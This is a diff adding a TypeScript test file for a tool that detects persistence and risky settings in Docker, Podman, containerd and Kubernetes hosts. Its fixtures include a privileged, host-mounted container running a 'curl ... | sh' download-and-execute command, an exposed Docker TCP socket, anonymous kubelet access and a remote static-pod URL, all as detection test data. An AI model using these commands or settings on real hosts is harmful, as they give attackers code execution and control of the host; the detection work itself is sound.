@@ -1,0 +1,423 @@
+import { describe, expect, test } from 'bun:test';
+import { gatherFrom } from '../../../../test/persistence/gather.ts';
+import type { PersistenceFact } from '../../../model/facts/persistence.ts';
+import { mechanismGroups } from '../../../model/mechanism.ts';
+import type { SourceLog } from '../../../model/source-log.ts';
+import { containersCases } from './cases.fixture.ts';
+import { compose } from './compose.ts';
+import { containerdSettings } from './containerd.ts';
+import { dockerFiles } from './docker.fixture.ts';
+import { dockerContainers } from './docker-container.ts';
+import { dockerSettings } from './docker-daemon.ts';
+import { containersArtifacts } from './index.ts';
+import { kubelet } from './kubelet.ts';
+import { kubernetesManifests } from './kubernetes-manifest.ts';
+import { podman } from './podman.ts';
+import { staticPods } from './static-pod.ts';
+
+type Recorded = Parameters<typeof gatherFrom>[1];
+
+/** Files of a fixture as a recorded host takes them. */
+const recorded = (files: ReturnType<typeof dockerFiles>): Recorded =>
+  Object.fromEntries(
+    Object.entries(files).flatMap(([path, file]) =>
+      typeof file === 'string' || file instanceof Uint8Array ? [[path, file]] : [],
+    ),
+  );
+const passwd = { '/etc/passwd': 'root:x:0:0::/root:/bin/sh\nada:x:1000:1000::/home/ada:/bin/sh\n' };
+const lines = (entries: readonly PersistenceFact[]) =>
+  entries.map(({ source, command, marks }) => [source.line ?? 0, String(command), ...marks]);
+const statuses = (log: SourceLog) =>
+  log.listed
+    .filter(({ status }) => status !== 'absent')
+    .map(({ status, reason }) => `${status} ${reason ?? ''}`);
+
+test('every case is told under its mechanism, and every mechanism has all four dresses', async () => {
+  const dresses = new Map<string, Set<string>>();
+  for (const one of containersCases) {
+    const files = { ...passwd, ...recorded({ ...one.packaged, ...one.planted }) };
+    const own = containersArtifacts.filter(({ mechanisms }) => mechanisms.includes(one.mechanism));
+    const gathered = await Promise.all(own.map((artifact) => gatherFrom(artifact, files)));
+    expect([one.what, gathered.some(({ entries }) => entries.length > 0)]).toEqual([one.what, true]);
+    dresses.set(one.mechanism, (dresses.get(one.mechanism) ?? new Set()).add(one.dress));
+  }
+  for (const mechanism of mechanismGroups.containers) expect(dresses.get(mechanism)?.size).toBe(4);
+});
+
+describe('containers of Docker', () => {
+  test('their command, what brings them back, and what of the host they reach', async () => {
+    const { entries } = await gatherFrom(
+      dockerContainers,
+      recorded(
+        dockerFiles({
+          image: 'alpine',
+          name: 'x',
+          path: 'sh',
+          args: ['-c', 'curl -s http://192.0.2.1/a | sh'],
+          host: { RestartPolicy: { Name: 'always' }, Binds: ['/:/mnt'], Privileged: true, PidMode: 'host' },
+        }),
+      ),
+    );
+    expect(entries).toMatchObject([
+      {
+        mechanism: 'docker-container',
+        user: 'root',
+        trigger: 'boot, restart always',
+        command: "sh -c 'curl -s http://192.0.2.1/a | sh'",
+        language: 'argv',
+        active: true,
+        marks: ['restarts', 'host-access'],
+        text: "x (alpine): sh -c 'curl -s http://192.0.2.1/a | sh' [created 2026-03-02T04:05:05; privileged; pid of the host; / at /mnt]",
+      },
+    ]);
+  });
+
+  test('one that was stopped and has no policy is not active', async () => {
+    const { entries } = await gatherFrom(
+      dockerContainers,
+      recorded(
+        dockerFiles({
+          image: 'a',
+          name: 'x',
+          path: 'sh',
+          running: false,
+          host: { RestartPolicy: { Name: '' } },
+        }),
+      ),
+    );
+    expect(entries).toMatchObject([{ active: false, trigger: 'by hand', marks: [] }]);
+  });
+
+  test('are found below the root that settings or options name, and below homes', async () => {
+    const one = (base: string) => recorded(dockerFiles({ image: 'a', name: base, path: 'x' }, base));
+    const { entries } = await gatherFrom(dockerContainers, {
+      ...passwd,
+      '/etc/docker/daemon.json': '{"data-root":"/srv/d"}',
+      '/etc/default/docker': 'DOCKER_OPTS="--data-root=/mnt/e"\n',
+      ...one('/srv/d'),
+      ...one('/mnt/e'),
+      ...one('/home/ada/.local/share/docker'),
+    });
+    expect(entries.map(({ source }) => source.source.split('/containers/')[0])).toEqual([
+      '/srv/d',
+      '/mnt/e',
+      '/home/ada/.local/share/docker',
+    ]);
+  });
+
+  test('that are too many, too deep or no JSON are told by their status', async () => {
+    const many = Object.fromEntries(
+      Array.from({ length: 10_000 }, (_, at) => [`/var/lib/docker/containers/c${at}/config.v2.json`, '{}']),
+    );
+    const crowd = await gatherFrom(dockerContainers, many);
+    expect(crowd.entries.length).toBe(2_000);
+    expect(statuses(crowd.log)).toContain('truncated more than 2,000 containers');
+
+    const broken = await gatherFrom(dockerContainers, {
+      '/var/lib/docker/containers/a/config.v2.json': `${'['.repeat(5_000)}`,
+      '/var/lib/docker/containers/b/config.v2.json': '{"Path":',
+      '/var/lib/docker/containers/c/config.v2.json': { status: 'denied', reason: 'EACCES' },
+      '/var/lib/docker/containers/d/config.v2.json': `{"Path":"${'x'.repeat(5 << 20)}"}`,
+      '/var/lib/docker/containers/e/config.v2.json': '{"Path":7,"Args":{},"Name":[],"Config":"x"}',
+    });
+    expect(broken.entries.map(({ command }) => String(command))).toEqual(['']);
+    const told = statuses(broken.log);
+    for (const wanted of ['error nested too deep', 'error not JSON', 'denied EACCES', 'truncated '])
+      expect(told).toContain(wanted);
+  });
+
+  test('names and ids that act on a screen are escaped', async () => {
+    const { entries } = await gatherFrom(dockerContainers, {
+      '/var/lib/docker/containers/a/config.v2.json': '{"Name":"/\\u001b[2Jx","Path":"a\\u202eb"}',
+    });
+    expect(String(entries[0]?.text)).toBe("%1B[2Jx: 'a%E2%80%AEb'");
+  });
+});
+
+describe('settings of Docker', () => {
+  test('an open socket, foreign mirrors and a runtime, each on its line', async () => {
+    const { entries } = await gatherFrom(dockerSettings, {
+      '/etc/docker/daemon.json':
+        '{\n "hosts": ["tcp://0.0.0.0:2375", "tcp://127.0.0.1:2375", "fd://"],\n "registry-mirrors": ["http://192.0.2.1"],\n "insecure-registries": ["registry.example.com", "10.0.0.1"],\n "runtimes": {\n  "x": {"path": "/opt/x/run"}\n }\n}\n',
+    });
+    expect(lines(entries)).toEqual([
+      [2, 'hosts=tcp://0.0.0.0:2375', 'opens-access'],
+      [2, 'hosts=tcp://127.0.0.1:2375'],
+      [2, 'hosts=fd://'],
+      [4, 'insecure-registries=registry.example.com', 'weakens-guard'],
+      [4, 'insecure-registries=10.0.0.1'],
+      [3, 'registry-mirrors=http://192.0.2.1', 'foreign-host'],
+      [6, 'runtimes.x=/opt/x/run'],
+    ]);
+    expect(String(entries.at(-1)?.target)).toBe('/opt/x/run');
+  });
+
+  test('options of the daemon, but not in comments; certificates make a socket milder', async () => {
+    const { entries } = await gatherFrom(dockerSettings, {
+      '/etc/default/docker':
+        '# -H tcp://0.0.0.0:1\nDOCKER_OPTS="-H tcp://0.0.0.0:2375"\nOTHER="--tlsverify --host=tcp://0.0.0.0:2376"\n',
+    });
+    expect(lines(entries)).toEqual([
+      [2, 'hosts=tcp://0.0.0.0:2375', 'opens-access'],
+      [3, 'hosts=tcp://0.0.0.0:2376', 'weakens-guard'],
+    ]);
+  });
+
+  test('programs of the client: helpers, plugins of homes and of further folders', async () => {
+    const { entries } = await gatherFrom(dockerSettings, {
+      ...passwd,
+      '/home/ada/.docker/config.json':
+        '{"credHelpers":{"r":"ecr-login","s":"../x"},"credsStore":"pass","cliPluginsExtraDirs":["/opt/p"]}',
+      '/home/ada/.docker/cli-plugins/docker-scan': '',
+      '/opt/p/docker-x': '',
+    });
+    expect(entries.map(({ user, command }) => `${user} ${command}`)).toEqual([
+      'ada docker-credential-ecr-login get',
+      'ada docker-credential-pass get',
+      'ada /opt/p/docker-x',
+      'ada /home/ada/.docker/cli-plugins/docker-scan',
+    ]);
+  });
+
+  test('that are no JSON are told', async () => {
+    const { entries, log } = await gatherFrom(dockerSettings, { '/etc/docker/daemon.json': '{"hosts":' });
+    expect(entries).toEqual([]);
+    expect(statuses(log)).toContain('error not JSON');
+  });
+});
+
+describe('Compose', () => {
+  test('tells services with their lines, and files that a container names', async () => {
+    const yaml =
+      'services:\n  web:\n    image: nginx\n  job:\n    image: alpine\n    restart: always\n    volumes: [./bin:/b]\n    command: ["/b/run"]\n';
+    const { entries } = await gatherFrom(compose, {
+      '/opt/a/docker-compose.yml': yaml,
+      '/mnt/far/my.yml': yaml,
+      '/opt/a/other.yml': yaml,
+      ...recorded(
+        dockerFiles({
+          image: 'a',
+          name: 'x',
+          path: 'x',
+          labels: { 'com.docker.compose.project.config_files': '/mnt/far/my.yml' },
+        }),
+      ),
+    });
+    expect(entries.map(({ source, target }) => `${source.source}:${source.line} ${target ?? ''}`)).toEqual([
+      '/opt/a/docker-compose.yml:2 ',
+      '/opt/a/docker-compose.yml:8 /opt/a/bin/run',
+      '/mnt/far/my.yml:2 ',
+      '/mnt/far/my.yml:8 /mnt/far/bin/run',
+    ]);
+  });
+
+  test('does not follow links, and says what it could not read', async () => {
+    const { entries, log } = await gatherFrom(compose, {
+      '/opt/a/compose.yml': { link: '/etc/shadow' },
+      '/opt/b/compose.yml': 'a: [\n',
+      '/opt/c/compose.yml': { status: 'denied', reason: 'EACCES' },
+      '/opt/d/compose.yml': '',
+    });
+    expect(entries).toEqual([]);
+    expect(statuses(log)).toContain('error not YAML');
+    expect(statuses(log)).toContain('denied EACCES');
+  });
+
+  test('in a crowd of folders stops and says so', async () => {
+    const files = Object.fromEntries(Array.from({ length: 5_000 }, (_, at) => [`/opt/f${at}/x/y`, '']));
+    const { log } = await gatherFrom(compose, files);
+    expect(statuses(log)).toContain('truncated more folders or files than are looked at');
+  });
+});
+
+describe('containerd, networks and registries', () => {
+  test('programs and mirrors are told, usual runtimes are not', async () => {
+    const { entries } = await gatherFrom(containerdSettings, {
+      '/etc/containerd/config.toml':
+        'version = 2\nimports = ["/etc/containerd/conf.d/*.toml"]\n[grpc]\n tcp_address = "0.0.0.0:1"\n[plugins.cri.containerd.runtimes.runc]\n runtime_type = "io.containerd.runc.v2"\n[plugins.cri.containerd.runtimes.runc.options]\n BinaryName = "/opt/x/runc"\n[stream_processors.x]\n path = "/opt/x/dec"\n[plugins.cri.registry.mirrors."docker.io"]\n endpoint = ["http://192.0.2.1"]\n',
+      '/etc/containerd/certs.d/docker.io/hosts.toml':
+        '[host."http://192.0.2.2:5000"]\n capabilities = ["pull"]\n',
+      '/etc/rancher/k3s/registries.yaml':
+        'mirrors:\n  docker.io:\n    endpoint:\n      - "http://10.0.0.1"\n',
+    });
+    expect(lines(entries)).toEqual([
+      [2, 'imports=/etc/containerd/conf.d/*.toml'],
+      [4, 'tcp_address=0.0.0.0:1', 'opens-access'],
+      [8, 'BinaryName=/opt/x/runc'],
+      [10, 'path=/opt/x/dec'],
+      [12, 'endpoint=http://192.0.2.1', 'foreign-host'],
+      [2, 'host=http://192.0.2.2:5000', 'foreign-host'],
+      [4, 'endpoint=http://10.0.0.1'],
+    ]);
+  });
+
+  test('plugins of networks are found where they lie; plugins of NRI are told', async () => {
+    const { entries } = await gatherFrom(containerdSettings, {
+      '/etc/cni/net.d/1.conflist':
+        '{"plugins":[{"type":"bridge","ipam":{"type":"host-local"}},{"type":"../../x y"},{"type":"/tmp/p"}]}',
+      '/opt/cni/bin/bridge': '',
+      '/opt/nri/plugins/10-x': '#!/bin/sh\nid\n',
+      '/etc/cni/net.d/2.conf': '{',
+    });
+    expect(entries.map(({ command, target }) => `${command} ${target ?? ''}`)).toEqual([
+      '/opt/cni/bin/bridge /opt/cni/bin/bridge',
+      'type=host-local ',
+      '/tmp/p /tmp/p',
+      ' /opt/nri/plugins/10-x',
+    ]);
+  });
+});
+
+describe('podman', () => {
+  test('quadlets of the system and of homes, their drop-ins and manifests', async () => {
+    const { entries } = await gatherFrom(podman, {
+      ...passwd,
+      '/etc/containers/systemd/a.container': '[Container]\nImage=x\nExec=run\n',
+      '/etc/containers/systemd/a.container.d/9.conf': '[Service]\nExecStartPre=/opt/pre\n',
+      '/etc/containers/systemd/b.kube': '[Kube]\nYaml=b.yaml\n',
+      '/etc/containers/systemd/b.yaml': 'kind: Pod\nspec: {containers: [{name: c, command: [pod]}]}\n',
+      '/etc/containers/systemd/users/1000/c.container': '[Container]\nImage=y\n',
+      '/home/ada/.config/containers/systemd/d.container': '[Container]\nImage=z\n[Install]\nWantedBy=x\n',
+    });
+    expect(entries.map(({ user, command, trigger }) => `${user} ${command} ${trigger}`)).toEqual([
+      'root run start of the unit',
+      'root pod start of the unit',
+      'root /opt/pre start of the unit',
+      'ada  boot',
+      'ada  start of the unit',
+    ]);
+  });
+
+  test('stored containers by their bundle; an id that is a path is none', async () => {
+    const id = 'a'.repeat(64);
+    const storage = '/var/lib/containers/storage/overlay-containers';
+    const { entries } = await gatherFrom(podman, {
+      [`${storage}/containers.json`]: JSON.stringify([
+        { id, names: ['web'], metadata: '{"image-name":"alpine"}' },
+        { id: '../../../../etc' },
+        7,
+      ]),
+      [`${storage}/${id}/userdata/config.json`]: JSON.stringify({
+        process: { args: ['sh', '-c', 'x'], user: { uid: 0 } },
+        mounts: [{ source: '/', destination: '/h', options: ['rbind', 'rw'] }],
+        linux: { namespaces: [{ type: 'mount' }, { type: 'network' }] },
+      }),
+    });
+    expect(lines(entries)).toEqual([[0, 'sh -c x', 'host-access']]);
+    expect(String(entries[0]?.text)).toBe('web (alpine): sh -c x [container; pid of the host; / at /h]');
+  });
+
+  test('hooks, and settings that run something unusual or bind / into all', async () => {
+    const { entries } = await gatherFrom(podman, {
+      '/etc/containers/containers.conf':
+        '[containers]\nvolumes = ["/:/h"]\n[engine]\nhooks_dir = ["/opt/hooks"]\nruntime = "crun"\nconmon_path = ["/usr/bin/conmon"]\n[engine.runtimes]\ncrun = ["/opt/crun"]\n',
+      '/opt/hooks/1.json':
+        '{"version":"1.0.0","hook":{"path":"/opt/h","args":["h","pre"]},"stages":["prestart"]}',
+      '/etc/containers/registries.conf': '[[registry]]\nlocation = "192.0.2.1:5000"\ninsecure = true\n',
+    });
+    expect(lines(entries)).toEqual([
+      [0, '/opt/h pre'],
+      [2, 'volumes=/:/h', 'host-access'],
+      [4, 'hooks_dir=/opt/hooks'],
+      [8, 'crun=/opt/crun'],
+      [2, 'location=192.0.2.1:5000', 'foreign-host'],
+    ]);
+  });
+});
+
+describe('Kubernetes', () => {
+  const pod =
+    'apiVersion: v1\nkind: Pod\nmetadata:\n  name: p\nspec:\n  containers:\n  - name: c\n    command: [run]\n';
+
+  test('pods of the kubelet, of any name, and where the settings point', async () => {
+    const { entries } = await gatherFrom(staticPods, {
+      '/etc/kubernetes/manifests/a': pod,
+      '/etc/kubernetes/manifests/.b': pod,
+      '/etc/kubernetes/manifests/c.json': '{"kind":"Pod","spec":{"containers":[{"command":["json"]}]}}',
+      '/etc/default/kubelet': 'KUBELET_EXTRA_ARGS=--pod-manifest-path=/opt/pods\n',
+      '/opt/pods/d.yaml': pod,
+    });
+    expect(
+      entries.map(({ source, command, active }) => [String(source.source), String(command), active]),
+    ).toEqual([
+      ['/etc/kubernetes/manifests/a', 'run', true],
+      ['/etc/kubernetes/manifests/.b', 'run', false],
+      ['/etc/kubernetes/manifests/c.json', 'json', true],
+      ['/opt/pods/d.yaml', 'run', true],
+    ]);
+    expect(entries[0]?.source.line).toBe(8);
+  });
+
+  test('manifests that are applied are active, those that lie in homes are not', async () => {
+    const { entries, log } = await gatherFrom(kubernetesManifests, {
+      ...passwd,
+      '/var/lib/rancher/k3s/server/manifests/a.yaml': pod,
+      '/home/ada/k8s/b.yaml': pod,
+      '/home/ada/k8s/values.yaml': 'replicas: 1\n',
+      '/home/ada/k8s/template.yaml': 'apiVersion: v1\nkind: Pod\n{{- if .x }}\n{{ end }}\n',
+      '/home/ada/node_modules/x/c.yaml': pod,
+    });
+    expect(entries.map(({ source, active }) => [String(source.source), active])).toEqual([
+      ['/var/lib/rancher/k3s/server/manifests/a.yaml', true],
+      ['/home/ada/k8s/b.yaml', false],
+    ]);
+    expect(statuses(log)).not.toContain('error not YAML');
+  });
+
+  test('a bomb of references is refused with its reason', async () => {
+    const uses = Array.from({ length: 600 }, (_, at) => `k${at}: *a`).join('\n');
+    const { entries, log } = await gatherFrom(staticPods, {
+      '/etc/kubernetes/manifests/a.yaml': `a: &a x\n${uses}\n---\n${pod}`,
+    });
+    expect(statuses(log)).toContain('error too many references');
+    expect(entries).toHaveLength(1);
+  });
+
+  test('files that are filled up end the reading after 32 MiB, and say so', async () => {
+    const big = `a: ${'x'.repeat(9 << 20)}\n`;
+    const files = Object.fromEntries(
+      'abcdef'.split('').map((name) => [`/etc/kubernetes/manifests/${name}`, big]),
+    );
+    const { log } = await gatherFrom(staticPods, files);
+    expect(statuses(log).filter((told) => told === 'truncated more than 32 MiB of YAML')).toHaveLength(2);
+    expect(statuses(log)).toContain('error a document larger than 2 MiB');
+  });
+
+  test('settings of the kubelet that let in or bring in, with their lines', async () => {
+    const { entries } = await gatherFrom(kubelet, {
+      '/var/lib/kubelet/config.yaml':
+        'authentication:\n  anonymous:\n    enabled: true\nauthorization:\n  mode: AlwaysAllow\nreadOnlyPort: 10255\nstaticPodPath: /tmp/p\nstaticPodURL: http://192.0.2.1/p\nclusterDNS: [10.96.0.10]\n',
+      '/etc/rancher/k3s/config.yaml': 'kubelet-arg:\n  - "anonymous-auth=true"\n  - "max-pods=200"\n',
+      '/etc/default/kubelet':
+        '#--anonymous-auth=true\nKUBELET_EXTRA_ARGS="--node-ip=10.0.0.1 --read-only-port=0"\n',
+    });
+    expect(lines(entries)).toEqual([
+      [3, 'anonymous-auth=true', 'opens-access'],
+      [5, 'authorization-mode=AlwaysAllow', 'opens-access'],
+      [6, 'read-only-port=10255', 'weakens-guard'],
+      [7, 'pod-manifest-path=/tmp/p', 'unusual-place'],
+      [8, 'manifest-url=http://192.0.2.1/p', 'foreign-host'],
+      [2, 'anonymous-auth=true', 'opens-access'],
+    ]);
+  });
+
+  test('plugins of the kubelet and programs of a kubeconfig', async () => {
+    const { entries } = await gatherFrom(kubelet, {
+      ...passwd,
+      '/usr/libexec/kubernetes/kubelet-plugins/volume/exec/v~d/d': '#!/bin/sh\nid\n',
+      '/home/ada/.kube/config':
+        'users:\n- name: a\n  user:\n    exec:\n      command: /opt/auth\n      args: [token]\n- name: b\n  user: {token: hush}\n',
+    });
+    expect(entries.map(({ user, command, body }) => `${user} ${command} ${body.length}`)).toEqual([
+      'root  2',
+      'ada /opt/auth token 0',
+    ]);
+  });
+});
+
+test('a host without containers tells nothing', async () => {
+  for (const artifact of containersArtifacts) {
+    const { entries } = await gatherFrom(artifact, { ...passwd, '/root/': '', '/home/ada/': '' });
+    expect(entries).toEqual([]);
+  }
+});
